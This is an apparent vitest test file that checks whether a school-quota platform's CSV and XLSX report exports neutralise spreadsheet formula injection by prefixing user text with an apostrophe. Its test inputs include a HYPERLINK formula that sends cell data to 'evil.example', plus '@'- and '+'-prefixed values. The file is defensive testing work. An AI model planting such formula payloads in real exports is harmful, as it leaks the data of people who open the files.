import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_PASSWORD, startTestPlatform, type SignedInClient, type TestPlatform } from '../support/platform.ts';
import { PNG, postCorrection, settled, SHIYAN } from '../support/quotas.ts';
import { demoDirectory } from '../support/schedule.ts';

/**
 * X-CSV-FORMULA: user text that a spreadsheet would evaluate (= + - @, tab, carriage
 * return at the start) reaches every CSV and XLSX export as text, read back with the
 * parsers an auditor's tools resemble (csv-parse, exceljs).
 */
const TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"点此")';
const REASON = '@SUM(1+1) 台风期间用其他工具授课';
const FILE_NAME = '+cmd.png';
const FORMULA_START = /^[=+\-@\t\r]/;

let platform: TestPlatform;
let coord: SignedInClient;
let auditor: SignedInClient;
let correctionId = '';

beforeAll(async () => {
  platform = await startTestPlatform({ env: { QUOTA_TODAY: '2026-11-23' } });
  const dir = await demoDirectory(platform.database.db);
  [coord, auditor] = await Promise.all([platform.signIn('coord.shiyan', DEMO_PASSWORD), platform.signIn('auditor.haiyan')]);
  const c = await postCorrection(platform, coord, dir.community(SHIYAN), {
    kind: 'sync_lesson', title: TITLE, heldOn: '2026-10-09', subjectCode: 'chinese', mode: 'interactive', reason: REASON, schoolIds: [dir.school('海盐县六里小学')],
  }, { bytes: PNG, type: 'image/png', name: FILE_NAME });
  expect(c.status, JSON.stringify(c.body)).toBe(201);
  correctionId = c.body.id!;
  await settled(platform);
  // Seeding the demo county takes long on a busy machine.
}, 240_000);
afterAll(() => platform?.close());

async function download(user: SignedInClient, path: string): Promise<Buffer> {
  const res = await fetch(`${platform.url}${path}`, { headers: { cookie: user.cookie } });
  expect(res.status).toBe(200);
  return Buffer.from(await res.arrayBuffer());
}

const csvRecords = (bytes: Buffer) => parseCsv(bytes, { bom: true, columns: true, relax_column_count: false }) as Record<string, string>[];

/** Every text cell of every sheet: none may start a formula, none may be a formula cell. */
function formulaCells(wb: ExcelJS.Workbook): string[] {
  const bad: string[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula || (typeof cell.value === 'string' && FORMULA_START.test(cell.value))) bad.push(`${ws.name}!${cell.address}: ${String(cell.value)}`);
      }),
    ),
  );
  return bad;
}

describe('X-CSV-FORMULA: exports write user text as text', () => {
  it('X-CSV-FORMULA: the report CSV (corrections and items sheets) prefixes formula-like text with an apostrophe', async () => {
    const corrections = csvRecords(await download(auditor, '/api/quotas/report?academicYear=2026-2027&format=csv&sheet=corrections'));
    const row = corrections.find((r) => r['编号 ID'] === correctionId)!;
    expect(row['名称 Title']).toBe(`'${TITLE}`);
    expect(row['理由 Reason']).toBe(`'${REASON}`);
    expect(row['附件 Attachments']).toBe(`'${FILE_NAME}`);

    const items = csvRecords(await download(auditor, '/api/quotas/report?academicYear=2026-2027&format=csv&sheet=items'));
    const item = items.find((r) => r['证据编号 Evidence reference'] === `correction/${correctionId}`)!;
    expect(item['名称 Title']).toBe(`'${TITLE}`);
    for (const sheet of ['rules', 'items', 'corrections', 'participation']) {
      const rows = parseCsv(await download(auditor, `/api/quotas/report?academicYear=2026-2027&format=csv&sheet=${sheet}`), { bom: true }) as string[][];
      const cells = rows.flat().filter((c) => FORMULA_START.test(c) && !/^-?\d+(\.\d+)?$/.test(c));
      expect(cells, sheet).toEqual([]);
    }
  });

  it('X-CSV-FORMULA: the report XLSX has no formula cell and no text starting like one', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await download(auditor, '/api/quotas/report?academicYear=2026-2027&format=xlsx')) as never);
    expect(formulaCells(wb)).toEqual([]);
    const sheet = wb.getWorksheet('更正记录')!;
    const titles: unknown[] = [];
    sheet.eachRow((r) => titles.push(r.getCell(4).value));
    expect(titles).toContain(`'${TITLE}`);
  });

  it('X-CSV-FORMULA: the import template (CSV and XLSX) goes through the same writer', async () => {
    const csv = parseCsv(await download(coord, '/api/schedule-import/template?format=csv'), { bom: true }) as string[][];
    expect(csv.flat().filter((c) => FORMULA_START.test(c))).toEqual([]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await download(coord, '/api/schedule-import/template?format=xlsx')) as never);
    expect(formulaCells(wb)).toEqual([]);
  });
});
